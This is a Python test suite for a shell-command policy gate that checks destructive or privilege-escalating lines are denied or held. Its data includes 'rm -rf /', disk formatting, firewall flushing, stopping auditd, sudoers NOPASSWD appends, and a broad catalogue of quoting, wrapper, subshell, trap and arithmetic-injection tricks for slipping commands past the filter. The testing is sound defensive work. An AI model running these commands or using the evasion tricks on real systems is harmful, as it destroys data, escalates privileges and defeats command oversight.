    ("echo $[1+", True), ("echo $'\\'", True), ("echo $'\\' x", True), ("((i++", False),
    ("cat <(ls", True), ("echo $\"a", False), ("time if true", True), ("ls |&", True),
    # here-documents: the earliest line that ends one in either shell, or at once when the two
    # read its word or its end differently
    ("cat <<EOF\nEO\\\nF", True), ("cat <<EOF\nx\\\nEOF", False),
    ("cat <<'EOF'\nEO\\\nF", False), ("cat <<-EOF\n\tEO\\\n\tF", False),
    ("cat <<-EOF\n\tEO\\\nF", True), ("cat <<-EOF\nx\\\n\tEOF", False), ("cat <<$'EOF'", False),
    ("cat <<$\"EOF\"", False), ("cat <<$'EOF'\n$EOF", True), ("cat <<$'EOF'\nEOF", True),
    ("cat <<$(x)", True), ("cat <<`x`", True), ("cat <<E\\\nOF", True),
    ('cat <<"E\\OF"\nEOF', False), ('cat <<"E\\OF"\nE\\OF', True), ("cat <<E\\OF\nEOF", True),
    ("cat <<\"E\\$F\"\nE$F", True), ("cat <<E'O'F\nEOF", True), ("cat <<EOF\nEOF \nx", False),
    ("x=$(cat <<EOF\nhi\nEOF)", True), ("x=`cat <<EOF\nhi\nEOF`", True),
    ("x=`cat <<EOF\nhi`", True), ("cat <<A <<B\nA\nx", False), ("cat <<A <<B\nA\nB", True),
]


@each(("line", "complete"), COMPLETENESS)
def test_is_complete(line: str, complete: bool) -> None:
    assert is_complete(line) is complete


# ---------------------------------------------------------------------------------------------
# Properties

DENIED_CORES = [
    ["rm", "-rf", "/"],
    ["rm", "-r", "-f", "/etc"],
    ["mkfs.ext4", "/dev/sdb1"],
    ["iptables", "-F"],
    ["userdel", "bob"],
    ["systemctl", "stop", "auditd"],
]
WRAPPERS = [
    ["sudo"], ["sudo", "-u", "root"], ["sudo", "-n", "--"], ["doas"], ["env"], ["env", "A=1"],
    ["env", "-i"], ["nice", "-n", "5"], ["nohup"], ["timeout", "5"], ["timeout", "-k", "1", "5"],
    ["time"], ["command"], ["exec"], ["stdbuf", "-o0"], ["setsid"], ["ionice", "-c3"],
    ["chrt", "-r", "1"], ["taskset", "1"], ["flock", "/tmp/l"], ["busybox"], ["chroot", "/"],
    ["xargs", "-0"], ["unbuffer"], ["builtin"],
]
PATH_PREFIXES = ["", "/bin/", "/usr/bin/", "./", "../../usr/bin/", "//usr/local/bin/"]


def quote_word(word: str, style: int) -> str:
    if style == 1:
        return "'" + word + "'"
    if style == 2:
        return '"' + word + '"'
    if style == 3:
        return "".join("\\" + ch for ch in word)
    if style == 4:
        return "$'" + "".join(f"\\x{ord(ch):02x}" for ch in word) + "'"
    if style == 5 and len(word) > 1:
        return f'"{word[0]}"\'{word[1:]}\''
    return word


CODE_WRAPS = [
    lambda code: f"sh -c {shlex.quote(code)}",
    lambda code: f"bash -c {shlex.quote(code)}",
    lambda code: f"eval {shlex.quote(code)}",
    lambda code: f"su -c {shlex.quote(code)}",
    lambda code: f"sudo -s {shlex.quote(code)}",
    lambda code: f"watch {shlex.quote(code)}",
    lambda code: f"bash <<< {shlex.quote(code)}",
    lambda code: f"echo $( {code} )",
    lambda code: f"true && {code}",
    lambda code: f"ls; {code}",
    lambda code: f"( {code} )",
    lambda code: f"if true; then {code}; fi",
    lambda code: f"{code} 2>/dev/null",
]


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    core=st.sampled_from(DENIED_CORES),
    prefix=st.sampled_from(PATH_PREFIXES),
    styles=st.lists(st.integers(0, 5), min_size=4, max_size=4),
    wrappers=st.lists(st.sampled_from(WRAPPERS), max_size=3),
    code_wraps=st.lists(st.sampled_from(CODE_WRAPS), max_size=2),
)
def test_disguised_denied_commands_stay_denied(
    default_policy: Policy,
    core: list[str],
    prefix: str,
    styles: list[int],
    wrappers: list[list[str]],
    code_wraps: list,
) -> None:
    words = [prefix + core[0], *core[1:]]
    quoted = [quote_word(word, style) for word, style in zip(words, styles + [0] * 4, strict=False)]
    line = " ".join([*(w for wrapper in wrappers for w in wrapper), *quoted])
    for wrap in code_wraps:
        line = wrap(line)
    assert action(default_policy, line) == "deny", (line, parse_commands(line))


@settings(max_examples=400, deadline=None)
@given(st.text())
def test_parsing_never_raises_on_any_text(line: str) -> None:
    commands = parse_commands(line)
    assert not any("internal" in c.unknown for c in commands)
    is_complete(line)


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("rm -f/$'\"\\`(){};|&<>#!*?[]=\n\tabcx0$EOF"))))
def test_evaluation_never_raises_on_shell_like_text(line: str) -> None:
    policy = small_policy({"name": "r", "action": "deny", "commands": ["rm"], "args": "x"})
    verdict = evaluate(policy, line, role="r", target="t")
    assert verdict.action in ACTIONS
    assert "fault" not in verdict.message


PLAIN_WORDS = [
    "ls", "rm", "-rf", "/", "sudo", "-u", "root", "env", "A=1", "x=1", "nice", "-n", "5", "sh",
    "bash", "-c", "timeout", "xargs", "find", "-exec", "+", "export", "local", "unset", "if",
    "then", "fi", "time", "coproc", "in", "do", "busybox", "command", "-v", "su", "eval", "~/x",
    "a.b", "--", "--force", "%1", ":", ".", "source", "watch", "trap", "alias", "a=b", "-",
]


@settings(max_examples=150, deadline=None)
@given(
    commands=st.lists(st.lists(st.sampled_from(PLAIN_WORDS), min_size=1, max_size=5),
                      min_size=1, max_size=4),
    operators=st.lists(st.sampled_from([";", "&&", "||", "|", "&", " | ", "\t;  "]),
                       min_size=4, max_size=4),
    ending=st.sampled_from(["", ";", " &", "  "]),
)
def test_plain_lines_parse_the_same_with_or_without_a_trailing_comment(
    commands: list[list[str]], operators: list[str], ending: str
) -> None:
    # Lines of plain words take a shortcut around the parser; a comment forces the full path.
    line = " ".join(commands[0])
    for operator, command in zip(operators, commands[1:], strict=False):
        line += f" {operator} " + " ".join(command)
    line += ending

    def seen(text: str) -> list:
        # A parse error reports the whole line, comment included: compare all but that text.
        return [(c.name, c.argv, c.unknown, c.dynamic_args, c.wrappers,
                 "" if c.unknown == "parse error" else c.text) for c in parse_commands(text)]

    parsed = seen(line + " # forces the parser")
    if not any(unknown == "parse error" for _, _, unknown, *_ in parsed):
        # (tree-sitter misreads a few plain lines, `- a=b`; the parser path then fails closed)
        assert seen(line) == parsed


# Attack E, finding 10: judging `cd a;` n times cost n squared (8 s for 2,000, on the event
# loop). Each construct that once grew with the square of its repeats, and some that might.
REPEATED = {
    "cd": "cd a; ", "cd-and": "cd a && ", "cd-subshell": "(cd a; true); ", "pushd": "pushd a; ",
    "pushd-popd": "pushd a; popd; ", "cd-then-path": "cd a; rm x; ", "sh-reading": "bash -c '[[ a ]]'; ",
    "eval-sh-reading": "eval '[[ a ]]'; ", "numbers": "x=1; echo $((x)); ", "heredoc": "cat <<E\nx\nE\n",
    "exec-fd": "exec 3<&0; ", "mktemp": "t=$(mktemp); echo > \"$t\"; ", "alias": "alias a='ls'; ",
    "redirections": "echo x >f <g; ", "substitutions": "echo $(true) `true`; ", "chroot": "chroot a true; ",
    "env-C": "env -C /tmp true; ", "set-H": "set -H; bash -c 'echo !x'; ",
}


@pytest.mark.parametrize("piece", REPEATED.values(), ids=REPEATED.keys())
def test_judging_costs_work_linear_in_the_repeats_of_a_construct(piece: str) -> None:
    # ten times the repeats cost about ten times the work; the square would cost a hundred
    small, large = cost(piece * 50), cost(piece * 500)
    assert large <= 12 * small, (small, large)
    assert large < MAX_WORK


@each("line", [
    "cd a;" * 8_000 + "true",                         # the attack's line, 4 times over (past
    "cat <<E;" * 4_000 + "\n" + "x\nE\n" * 4_000,      # the bound from 5,100); tree-sitter's own
    "(cd a; true); " * 8_000,                         # work is quadratic in open heredocs
], ids=["cd", "open-heredocs", "cd-subshell"])
def test_a_line_past_the_work_bound_is_unknown_and_costs_no_more(default_policy: Policy,
                                                                 line: str) -> None:
    # judged once: the verdict says the bound was reached (`cost` would judge it again)
    verdict = evaluate(default_policy, line, role="engineer", target="web01")
    assert verdict.action == "confirm" and verdict.rule == "defaults.unknown"
    assert "too much to judge" in verdict.message


def test_more_directories_than_followed_make_relative_paths_unknown(default_policy: Policy) -> None:
    # 20 `cd`s: past 16 directories the rest is one known only at run time, so a relative
    # path that could be a credential file is held, not passed.
    line = "".join(f"cd d{i}; " for i in range(20)) + "cd /etc; " + "cd x; " * 20 + "rm sudoers"
    assert action(default_policy, line) == "confirm"
    assert action(default_policy, "cd /etc; rm sudoers") == "deny"


@each(("line", "mode"), [
    ("set -o vi", "vi"), ("set -o emacs", "emacs"), ("  set  -o  vi ", "vi"),
    ("bind 'set editing-mode vi'", "vi"), ('bind "set editing-mode emacs"', "emacs"),
    ("set -Co vi", None), ("shopt -os vi", None), ("set -o vi -o emacs", None),
    ("ls; set -o vi", None), ("set -o vi # x", None),
])
def test_the_gate_follows_exactly_the_editing_mode_switches_the_policy_lets_through(
    default_policy: Policy, line: str, mode: str | None
) -> None:
    # Attack F, finding 3: bastion.command_control.terminal switches its key model on `editing_mode`; every
    # other line that may switch the mode is held, so the two never disagree.
    assert editing_mode(line) == mode
    verdict = evaluate(default_policy, line, role="engineer", target="web01")
    held = any(c.name is None and "switch the line editor's mode" in c.unknown
               for c in verdict.commands)
    assert held is (mode is None)
    assert (verdict.action == "confirm") is (mode is None)

# Attack G, finding 1: a child of the shell (a subshell, a substitution, an element of a
# pipeline, a `&` job, a coprocess, a nested shell, a wrapper's program) changes nothing the line
# is judged by afterwards: not the directory, the directory stack, HOME, nor a variable. {p} is a
# protected folder; each line writes into it in bash (tests/test_policy_bash.py runs them).
CHILD_SHELL_LINES = [
    'cd {p}; (cd /tmp); touch x',
    'cd {p}; (cd /tmp) ; touch x',
    'cd {p}; echo $(cd /tmp) >/dev/null; touch x',
    'cd {p}; x=$(cd /tmp); touch x',
    'cd {p}; cd /tmp | true; touch x',
    'cd {p}; true | cd /tmp; touch x',
    'cd {p}; cd /tmp & wait; touch x',
    'cd {p}; { cd /tmp; } | cat; touch x',
    'cd {p}; (cd /tmp; true); touch x',
    'cd {p}; : <(cd /tmp); touch x',
    'cd {p}; f() ( cd /tmp; ); f; touch x',
    "cd {p}; bash -c 'cd /tmp'; touch x",
    "cd {p}; sh -c 'cd /tmp'; touch x",
    'cd {p}; env -C /tmp true; touch x',
    'cd {p}; sudo -D /tmp true; touch x',
    'cd {p}; coproc cd /tmp; touch x',
    'cd {p}; if (cd /tmp); then touch x; fi',
    'cd {p}; while (cd /tmp); do touch x; break; done',
    'cd {p}; (cd /tmp) && touch x',
    'cd {p}; [[ $(cd /tmp) ]] ; touch x',
    'cd {p}; `cd /tmp`; touch x',
    "cd {p}; timeout 5 bash -c 'cd /tmp'; touch x",
    'cd {p}; xargs -a /dev/null cd /tmp; touch x',
    'cd {p}; find /tmp -maxdepth 0 -execdir true \\; ; touch x',
    'cd {p}; git -C /tmp status >/dev/null 2>&1; touch x',
    'cd {p}; nsenter --wd=/tmp true 2>/dev/null; touch x',
    'f={p}/keep; (f=/tmp/a); echo x > $f',
    'f={p}/keep; echo $(f=/tmp/a) >/dev/null; echo x > "$f"',
    'f={p}/keep; f=/tmp/a | true; echo x > $f',
    'f={p}/keep; f=/tmp/a & wait; echo x > $f',
    "f={p}/keep; bash -c 'f=/tmp/a'; echo x > $f",
    'HOME={p}; (HOME=/tmp); touch ~/x',
    'HOME={p}; (cd; HOME=/tmp); touch ~/x',
    'f={p}/keep; (export f=/tmp/a); echo x > $f',
    'f={p}/keep; (declare f=/tmp/a); echo x > $f',
    'f={p}/keep; (read f <<< /tmp/a); echo x > $f',
    'f={p}/keep; (printf -v f /tmp/a); echo x > $f',
    'f={p}/keep; (unset f); echo x > $f',
    'f={p}/keep; for f in /tmp/a; do :; done | true; echo x > $f',
    'c=canary; (c=true); $c',
    'f() { cd /tmp; }; cd {p}; f | true; touch x',
    'cd {p}; f() { cd /tmp; }; (f); touch x',
    'cd {p}; pushd /tmp >/dev/null | true; touch x',
    'pushd {p} >/dev/null; (popd >/dev/null); touch x',
    "cd {p}; eval 'cd /tmp' | true; touch x",
    'cd {p}; source /dev/null | cd /tmp; touch x',
]


def in_etc(line: str) -> str:
    """A line of CHILD_SHELL_LINES aimed at /etc/sudoers, for the default policy."""
    return line.replace("{p}/keep", "/etc/sudoers").replace("{p}", "/etc").replace(
        "touch x", "touch sudoers").replace("~/x", "~/sudoers")


@each("line", CHILD_SHELL_LINES)
def test_a_change_in_a_child_of_the_shell_does_not_move_what_the_line_writes(
        default_policy: Policy, line: str) -> None:
    # Where the write lands is known (denied); a variable the child set is unknown (held).
    verdict = action(default_policy, in_etc(line))
    assert verdict == ("deny" if "touch" in line else "confirm"), parse_commands(in_etc(line))


# Each way into a child of the shell, between `cd /etc` and a write to sudoers there (X is
# where the child moves).
CHILD_WAYS = [
    "(cd X)", "echo $(cd X)", "x=$(cd X)", "`cd X`", "echo \"`cd X`\"", "cd X | true",
    "true | cd X", "cd X |& cat", "cd X & wait", "cd X && true & wait", "coproc cd X",
    "coproc { cd X; }", "coproc c (cd X)", ": <(cd X)", ": >(cd X)", "bash -c 'cd X'",
    "sh -c 'cd X'", "timeout 5 bash -c 'cd X'", "nohup sh -c 'cd X'", "env bash -c 'cd X'",
    "xargs -a /dev/null cd X", "eval 'cd X' | true", "f() ( cd X; ); f", "pushd X | true",
    "{ cd X; } | cat", "[[ $(cd X) ]]", "cat <<E\n$(cd X)\nE", "(cd X; cd /; pushd X)",
    "x=$(cd X) y=1", "(eval 'cd X')", "su -c 'cd X'", "sudo sh -c 'cd X'",
]


@each("way", CHILD_WAYS)
def test_every_way_into_a_child_of_the_shell_leaves_the_directory_where_it_was(
        default_policy: Policy, way: str) -> None:
    line = f"cd /etc; {way.replace('X', '/tmp')}; echo 'x ALL=(ALL) NOPASSWD: ALL' >> sudoers"
    assert action(default_policy, line) == "deny", parse_commands(line)


# What the shell state is after a child: the parent's state before it, a change after it kept, a
# place that may be the shell itself (the last element of a pipeline under lastpipe, a function
# body that may run later, a trap) both; the state a child starts from is its parent's.
CHILD_TRANSITIONS = [
    ("(cd /tmp); cd /etc; echo x >> sudoers", "deny"),  # the parent's change after the child
    ("cd /tmp; (cd /etc); echo x >> sudoers", "allow"),  # judged in /tmp, where bash is
    ("(cd /etc); echo x >> sudoers", "allow"),
    ("cd /etc; (echo x >> sudoers)", "deny"),  # a child starts where its parent is
    ("cd /etc; echo $(echo x >> sudoers)", "deny"),
    ("cd /etc; (cd /tmp; cd /etc; echo x >> sudoers)", "deny"),
    ("cd /etc; (cd /tmp); (cd /tmp); echo x >> sudoers", "deny"),
    ("true | cd /etc; echo x >> sudoers", "deny"),  # perhaps the shell itself (lastpipe)
    ("true | { cd /etc; }; echo x >> sudoers", "deny"),
    ("true | cd /etc && echo x >> sudoers", "deny"),
    ("f() { cd /etc; }; f; echo x >> sudoers", "deny"),  # a function body may run later
    ("eval 'cd /etc'; echo x >> sudoers", "deny"),  # eval, command, builtin: the shell itself
    ("command cd /etc; echo x >> sudoers", "deny"),
    ("builtin cd /etc; echo x >> sudoers", "deny"),
    ("time cd /etc; echo x >> sudoers", "deny"),
    ("trap 'cd /etc' DEBUG; echo x >> sudoers", "deny"),
    ("pushd /etc; (popd); echo x >> sudoers", "deny"),  # the stack is the parent's
    ("pushd /etc; (pushd /tmp); popd; echo x >> sudoers", "deny"),  # the popd may fail
    # Pushed apart: unknown, and still /etc if the popd fails.
    ("pushd /etc; true | pushd /tmp; popd; echo x >> sudoers", "deny"),
    ("HOME=/etc; (HOME=/tmp); echo x >> ~/sudoers", "deny"),
    ("HOME=/etc; HOME=/tmp | true; echo x >> ~/sudoers", "deny"),
    ("HOME=/etc; bash -c 'HOME=/tmp'; echo x >> ~/sudoers", "deny"),
    ("HOME=/etc; true | HOME=/tmp; echo x >> ~/sudoers", "confirm"),  # either: one value unknown
    ("(HOME=/etc); echo x >> ~/sudoers", "allow"),
    ("CDPATH=/; (CDPATH=/tmp); cd etc; echo x >> sudoers", "deny"),
    ("(CDPATH=/); cd etc; echo x >> sudoers", "allow"),
]


@each(("line", "expected"), CHILD_TRANSITIONS)
def test_the_shell_state_after_a_child_is_the_parents(default_policy: Policy, line: str,
                                                      expected: str) -> None:
    assert action(default_policy, line) == expected, parse_commands(line)


# Found while closing attack G, finding 1: the same state through control flow. A loop's body
# runs again from where its last pass left the shell (or not at all); a function's body runs at
# each call, in the shell unless it is a subshell; a trap's code before any later command.
REPEATED_CODE = [
    ("cd /tmp; for i in 1 2; do echo x >> sudoers; cd /etc; done", "deny"),
    ("cd /tmp; while true; do echo x >> sudoers; cd /etc; done", "deny"),
    ("cd /tmp; until false; do echo x >> sudoers; cd /etc; done", "deny"),
    ("cd /tmp; for ((i=0;i<2;i++)); do echo x >> sudoers; cd /etc; done", "deny"),
    ("cd /tmp; select x in a; do echo x >> sudoers; cd /etc; done", "deny"),
    ("cd /tmp; for i in 1 2; do echo x >> sudoers; pushd /etc; done", "deny"),
    ("HOME=/tmp; for i in 1 2; do echo x >> ~/sudoers; HOME=/etc; done", "confirm"),  # either
    ("cd /etc; for i in 1 2; do cd /tmp; done; echo x >> sudoers", "deny"),  # no pass at all
    ("cd /tmp; for i in a b; do cd x; done; echo x >> sudoers", "confirm"),  # each pass moves on
    ("cd /tmp; for i in 1 2; do echo x >> sudoers; done", "allow"),
    ("cd /tmp; for i in 1 2; do (cd /etc); echo x >> sudoers; done", "allow"),
    ("f() { cd /etc; }; cd /tmp; f; echo x >> sudoers", "deny"),  # where the call leaves it
    ("function f { pushd /etc; }; cd /tmp; f; echo x >> sudoers", "deny"),
    ("f() { cd /etc; }; cd /tmp; echo x >> sudoers", "allow"),  # never called
    ("f() ( cd /etc; ); cd /tmp; f; echo x >> sudoers", "allow"),  # a subshell body
    ("f() { cd /etc; }; cd /tmp; f | true; echo x >> sudoers", "allow"),  # called in a child
    ("trap 'cd /etc' DEBUG; cd /tmp; echo x >> sudoers", "deny"),  # runs before each command
    ("trap 'cd /etc' RETURN; cd /tmp; echo x >> sudoers", "deny"),
    ("trap ': ' DEBUG; cd /tmp; echo x >> sudoers", "allow"),
]


@each(("line", "expected"), REPEATED_CODE)
def test_a_loop_or_function_body_is_judged_from_every_directory_it_may_run_in(
        default_policy: Policy, line: str, expected: str) -> None:
    assert action(default_policy, line) == expected, parse_commands(line)


# Attack I, finding 1: shell state the line model changed but bash did not. A `cd`, `pushd` or
# `popd` may fail or never run (and an assignment before a command that is not a special builtin
# is not kept): relative paths after it are judged where the shell was before it too. Finding 2:
# code stored for later (a trap on any signal, a function body, a prompt or hook) runs where the
# shell is then, and a here-string or here-document `source`d runs in the shell itself. {p} is a
# protected folder; each line writes into it in bash (tests/test_policy_bash.py runs them); with
# {p} /etc, the shipped policy's verdict.
STATE_BASH_KEEPS = [
    ("cd {p}; cd /nonexistent; touch x", "deny"),
    ("cd {p}; false && cd /tmp; touch x", "deny"),
    ("cd {p}; true || cd /tmp; touch x", "deny"),
    ("cd {p}; if false; then cd /tmp; fi; touch x", "deny"),
    ("cd {p}; if true; then :; else cd /tmp; fi; touch x", "deny"),
    ("cd {p}; case a in b) cd /tmp;; esac; touch x", "deny"),
    ("cd {p}; [[ -n '' ]] && cd /tmp; touch x", "deny"),
    ("cd {p}; ! cd /nonexistent; touch x", "deny"),
    ("cd {p}; while false; do cd /tmp; done; touch x", "deny"),
    ("cd {p}; cd -x /tmp; touch x", "deny"),
    ("cd {p}; cd /tmp /var; touch x", "deny"),
    ("cd {p}; cd {p}/keep; touch x", "deny"),  # not a directory
    ("cd {p}; cd /tmp >/nonexistent/x; touch x", "deny"),  # its redirection fails: it never runs
    ("cd {p}; pushd /nonexistent; touch x", "deny"),
    ("cd {p}; popd; touch x", "deny"),  # nothing to pop
    ("cd {p}; enable -n cd; cd /tmp; touch x", "deny"),  # /usr/bin/cd moves a child
    ("cd {p}; cd() { :; }; cd /tmp; touch x", "deny"),
    ("HOME={p}; HOME=/tmp true; touch ~/x", "deny"),
    ("HOME={p}; HOME=/tmp /bin/true; touch ~/x", "deny"),
    ("HOME={p}; HOME=/tmp echo; touch ~/x", "deny"),
    ("HOME={p}; HOME=/tmp exec 2>&1; touch ~/x", "confirm"),  # kept by sh and POSIX mode
    ("HOME={p}; local HOME=/tmp; touch ~/x", "deny"),  # outside a function: an error
    ("HOME={p}; HOME=/tmp cd; touch ~/x", "deny"),  # HOME changed for cd only
    ("cd /tmp; trap 'touch x' EXIT; cd {p}", "deny"),
    ("cd /tmp; trap 'touch x' 0; cd {p}", "deny"),
    ("cd /tmp; trap 'touch x' ERR; cd {p}; false", "deny"),
    ("cd /tmp; trap 'touch x' DEBUG; cd {p}; :", "deny"),
    ("cd /tmp; trap 'touch x' CHLD; cd {p}; /bin/true", "deny"),
    ("cd /tmp; trap 'touch x' RETURN; cd {p}; . /dev/null", "deny"),
    ("cd /tmp; trap -- 'touch x' EXIT; cd {p}", "deny"),
    ("cd /tmp; (trap 'touch x' EXIT; cd {p})", "deny"),
    ("bash -c 'cd /tmp; trap \"touch x\" EXIT; cd {p}'", "deny"),
    ("HOME=/tmp; trap 'touch ~/x' EXIT; HOME={p}", "deny"),
    ("cd /tmp; f() { touch x; }; cd {p}; f", "deny"),
    ("cd /tmp; f() { touch x; }; trap f EXIT; cd {p}", "deny"),
    ("f() { g; }; g() { touch x; }; cd /tmp; f; cd {p}; f", "deny"),
    ("cd /tmp; eval 'f() { touch x; }'; cd {p}; f", "deny"),
    ("HOME=/tmp; f() { touch ~/x; }; HOME={p}; f", "deny"),
    ("f() { touch ~/x; }; HOME={p} f", "deny"),
    ("cd /tmp; . /dev/stdin <<< 'cd {p}'; touch x", "deny"),
    ("cd /tmp; source /dev/fd/0 <<'E'\ncd {p}\nE\ntouch x", "deny"),
    ("cd /tmp; . /proc/self/fd/0 <<< 'cd {p}'; touch x", "deny"),
]


@each(("line", "expected"), STATE_BASH_KEEPS)
def test_shell_state_a_failed_or_unrun_change_or_later_code_leaves_is_judged(
        default_policy: Policy, line: str, expected: str) -> None:
    assert action(default_policy, in_etc(line)) == expected, parse_commands(in_etc(line))


# The outside tester's lines of attack I, findings 1 and 2, and members that run only in an
# interactive shell (aliases, prompts, hooks, completion, key bindings), with the shipped policy.
STATE_SHIPPED = [
    ("cd /etc; cd /nonexistent; echo 'x ALL=(ALL) NOPASSWD: ALL' >> sudoers", "deny"),
    ("cd /etc; false && cd /tmp; echo x >> sudoers", "deny"),
    ("cd /etc; if false; then cd /tmp; fi; echo x >> sudoers", "deny"),
    ("cd /etc; cd -x /tmp; echo x >> sudoers", "deny"),
    ("cd /; cd /nonexistent; rm -rf etc", "deny"),
    ("cd /; cd /nonexistent; rm -f etc/shadow", "deny"),
    ("cd /etc/sudoers.d; cd /etc/sudoers; echo x >> README", "deny"),
    ("cd /etc; cd() { :; }; cd /tmp; cp /tmp/mine sudoers", "deny"),
    ("CDPATH=/; CDPATH=/tmp true; cd etc; echo x >> sudoers", "deny"),
    ("cd /tmp; set -o posix; HOME=/etc :; cd; echo x >> sudoers", "confirm"),
    ("cd /tmp; trap \"echo 'x ALL=(ALL) NOPASSWD: ALL' >> sudoers\" EXIT; cd /etc", "deny"),
    ("cd /tmp; trap 'echo x >> sudoers' SIGINT; cd /etc", "deny"),
    ("cd /tmp; f() { echo 'x ALL=(ALL) NOPASSWD: ALL' >> sudoers; }; cd /etc; f", "deny"),
    ("cd /tmp; f() { rm -rf etc; }; cd /; f", "deny"),
    ("cd /tmp; f() { echo x >> sudoers; }; cd /etc", "deny"),  # f may run on a later line
    ("cd /tmp; alias z='echo x >> sudoers'; cd /etc", "deny"),
    ("cd /tmp; PROMPT_COMMAND='echo x >> sudoers'; cd /etc", "deny"),
    ("cd /tmp; PS0='$(echo x >> sudoers)'; cd /etc", "deny"),
    ("cd /tmp; PS1='$(echo x >> sudoers)'; cd /etc", "deny"),
    ("cd /tmp; complete -C 'echo x >> sudoers' ls; cd /etc", "deny"),
    ("cd /tmp; bind -x '\"\\C-a\": echo x >> sudoers'; cd /etc", "deny"),
    ("cd /tmp; . /dev/stdin <<< 'cd /etc'; echo 'x ALL=(ALL) NOPASSWD: ALL' >> sudoers", "deny"),
    ("cd /tmp; trap 'cd /etc' DEBUG; trap 'echo x >> sudoers' EXIT", "deny"),  # moved by a trap
    ("cd /tmp; trap 'cd x' DEBUG; trap 'echo x >> sudoers' EXIT", "confirm"),  # moves on and on
    # Everyday forms keep their verdict.
    ("cd /tmp; trap 'rm -f lock' EXIT; cd /var/tmp; touch lock", "allow"),
    ("f() { ls -l; }; cd /var/log; f", "allow"),
    ("cd /srv/app || exit 1; git pull", "allow"),
]


@each(("line", "expected"), STATE_SHIPPED)
def test_the_shipped_policy_follows_failed_moves_and_later_code(default_policy: Policy, line: str,
                                                                expected: str) -> None:
    assert action(default_policy, line) == expected, parse_commands(line)


def test_a_digit_bash_does_not_read_as_one_before_a_redirection_is_a_word() -> None:
    # Hypothesis found `¹<0` (str.isdigit, then int() raised): bash's descriptors are ASCII.
    assert [c.name for c in parse_commands("¹<0")] == ["¹", "<"]


@each(("command", "typed"), [
    ("vim /etc/hosts", True), ("psql", True), ("sqlite3 app.db", True), ("gdb -p 1", True),
    ("python3", False), ("perl", False), ("bash", False), ("ls", False), ("vim f; python3", False),
])
def test_programs_a_person_types_at_are_told_from_interpreters_of_scripts(command: str,
                                                                         typed: bool) -> None:
    # With a pty, an exec of an editor or database client is typed at through the interactive
    # gate, as at a prompt (judge.judge_exec does not hold it); an interpreter stays held.
    from bastion.command_control.policy import typed_at_a_terminal
    assert typed_at_a_terminal(command) is typed


# Outside attack J: a shell reading lines at a prompt that echoes nothing (keys typed blind
# pass as a secret unless a rule refuses them), TERM taken away by another spelling, arithmetic
# in a quoted operand of [[ ]], and lines the gate cannot read inside a terminal multiplexer.
ATTACK_J = [
    ("stty -echo", True, "confirm", "defaults.unknown"),
    ("stty -F /dev/tty -echo", True, "confirm", "defaults.unknown"),
    ("stty -echo; cat > /tmp/key; stty echo", True, "confirm", "defaults.unknown"),
    ("PS1='Password: '; stty -echo", True, "confirm", "defaults.unknown"),
    ("stty -echo; read pw; stty echo", False, "allow", "defaults.unmatched"),  # a script's
    ("stty echo", True, "allow", "defaults.unmatched"),
    ("declare +x TERM; bash", True, "confirm", "defaults.unknown"),
    ("typeset +x TERM", True, "confirm", "defaults.unknown"),
    ("f() { declare +x TERM; }; f; bash", True, "confirm", "defaults.unknown"),
    ("declare +x TERM=xterm; bash --rcfile rc", True, "confirm", "defaults.unknown"),
    ("declare -x TERM=xterm", True, "allow", "defaults.unmatched"),
    ("[[ 'a[$(touch canary)]' -eq 1 ]]", True, "confirm", "defaults.unknown"),
    ("[[ 1 -lt 'a[$(echo x >> /etc/sudoers.d/x)]' ]]", False, "confirm", "defaults.unknown"),
    ('[[ "a[`touch c`]" -ge 1 ]]', True, "confirm", "defaults.unknown"),
    ("[[ '1' -eq 1 ]]", True, "allow", None),
    ("tmux", True, "confirm", "confirm-terminal-multiplexer"),
    ("TERM=screen-256color tmux attach", True, "confirm", "confirm-terminal-multiplexer"),
    ("tmux -L s -f /dev/null new-session 'PS1=\"$ \" sh'", True, "confirm",
     "confirm-terminal-multiplexer"),
    ("sudo screen -r", True, "confirm", "confirm-terminal-multiplexer"),
    ("byobu", True, "confirm", "confirm-terminal-multiplexer"),
    ("zellij attach", True, "confirm", "confirm-terminal-multiplexer"),
    ("tmux ls", True, "allow", "allow-tmux-listing"),
    ("screen -ls", True, "allow", "allow-screen-listing"),
    # attack L: a listing word elsewhere, tmux's verbose flag, multiplexers the list missed
    ("tmux -v", True, "confirm", "confirm-terminal-multiplexer"),
    ("tmux -L ls", True, "confirm", "confirm-terminal-multiplexer"),
    ("tmux attach -t ls", True, "confirm", "confirm-terminal-multiplexer"),
    ("tmux new -s ls", True, "confirm", "confirm-terminal-multiplexer"),
    ("tmux new \\; list-keys", True, "confirm", "confirm-terminal-multiplexer"),
    ("sudo -u nobody tmux -v", True, "confirm", "confirm-terminal-multiplexer"),
    ("screen -S ls", True, "confirm", "confirm-terminal-multiplexer"),
    ("mtm", True, "confirm", "confirm-terminal-multiplexer"),
    ("splitvt", True, "confirm", "confirm-terminal-multiplexer"),
    # attack N, finding 4: launchers the list missed, and a listing word passed to programs
    # other than tmux and screen, whose own listing alone passes (`mtm ls` starts mtm with a
    # shell; `screen ls` runs ls in a window; zellij's and tmate's listings are held too)
    *[(launcher, True, "confirm", "confirm-terminal-multiplexer") for launcher in [
        "byobu-tmux", "byobu-screen", "byobu ls", "byobu-enable", "tmuxinator start x",
        "tmuxp load x", "teamocil x", "smtx", "monomux", "wemux", "pymux", "screen-4.9.0",
        "tmux-next", "dvtm-status", "mtm ls", "dvtm ls", "3mux ls", "neercs ls", "splitvt ls",
        "twin ls", "zellij ls", "tmate ls", "abduco ls", "dtach ls", "screen ls", "screen -r ls",
        "screen list-sessions", "tmux -ls", "tmux -list", "screen -V ls", "sudo wemux",
    ]],
    ("tmux list-sessions", True, "allow", "allow-tmux-listing"),
    ("tmux -V", True, "allow", "allow-tmux-listing"),
    ("screen -list", True, "allow", "allow-screen-listing"),
    ("screen -v", True, "allow", "allow-screen-listing"),
    # attack L: arithmetic contexts read quoted operands as expressions
    ("(( 'a[$(echo x >> /etc/sudoers.d/x)]' ))", True, "confirm", "defaults.unknown"),
    ("a=(); a['$(echo x >> /etc/sudoers.d/x)']=1", False, "confirm", "defaults.unknown"),
    ("echo ${a['$(rm -rf /)']}", True, "confirm", "defaults.unknown"),
    ("[[ ! 'a[$(touch canary)]' -eq 1 ]]", True, "confirm", "defaults.unknown"),
    ("echo $[ 'a[$(touch canary)]' ]", True, "confirm", "defaults.unknown"),
    ("case 1 in $(( 'a[$(touch canary)]' ))) :;; esac", True, "confirm", "defaults.unknown"),
